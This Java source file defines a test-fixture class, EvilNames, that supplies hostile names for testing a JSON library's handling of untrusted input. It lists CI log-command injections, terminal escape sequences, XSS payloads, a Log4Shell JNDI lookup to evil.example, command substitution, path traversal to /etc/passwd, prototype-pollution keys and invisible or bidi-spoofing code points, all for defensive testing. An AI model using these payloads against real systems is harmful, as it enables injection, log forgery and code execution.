package io.enikit.json;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/** Names that somebody gives who wants more than a name: to end a line, to hide, to be run. */
final class EvilNames {
    /** Code points without a shape of their own, or that change how the text around them is shown. */
    private static final int[] HIDDEN = {
        0x00, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x9B, 0x9F, 0xAD, 0x34F, 0x61C,
        0x115F, 0x1160, 0x17B4, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A, 0x202B,
        0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206F, 0x2800, 0x3164, 0xD800,
        0xDBFF, 0xDC00, 0xDFFF, 0xFDD0, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFE, 0xFFFF, 0x1D173, 0xE0001,
        0xE0041, 0xE0100, 0x1FFFE, 0x10FFFF
    };

    private static final List<String> TEXTS = List.of(
            "v\n::error file=app.js,line=1::pwned\u001b[8m",
            "v\r\n##[error]pwned",
            "::error::pwned",
            "  ::error::pwned",
            "\u3000::error::pwned",
            "::add-mask::x",
            "##[add-path]x",
            "##vso[task.setvariable variable=x]y",
            "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
            "\u001b[2J\u001b[H",
            "[ERROR] other: all of it is wrong | rule | Code",
            "a\nend\neni-plan 1",
            "a\nvpc b\nend",
            "[click me](https://evil.example) {0}",
            "{{resolve:ssm:x}}",
            "</script><script>alert(1)</script>",
            "</text></svg><script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "&lt;&#60;",
            "\"><a href=\"javascript:alert(1)\">",
            "]]>",
            "<!--",
            "-->",
            "\"",
            "'",
            "`",
            "\\",
            "\\n",
            "\\u000a",
            "%0a",
            "%",
            "$(id)",
            "a${jndi:ldap://evil.example}",
            "a;b",
            "a|b",
            "a,b=c",
            "a#b",
            "click a href \"javascript:alert(1)\"",
            "%%{init: {}}%%",
            "subgraph x\nend",
            " a",
            "a ",
            "\u00a0",
            "a\u3000",
            "../../etc/passwd",
            "CON",
            "null",
            "__proto__",
            "A".repeat(300),
            "\u202Etxt.exe",
            "a\u0301\u0301\u0301\u0301");

    private EvilNames() {}

    static List<String> all() {
        Set<String> all = new LinkedHashSet<>(TEXTS);
        for (int each : HIDDEN) {
            all.add("a" + Character.toString(each) + "b");
        }
        List<String> names = new ArrayList<>(all);
        names.removeIf(String::isBlank);
        return names;
    }
}
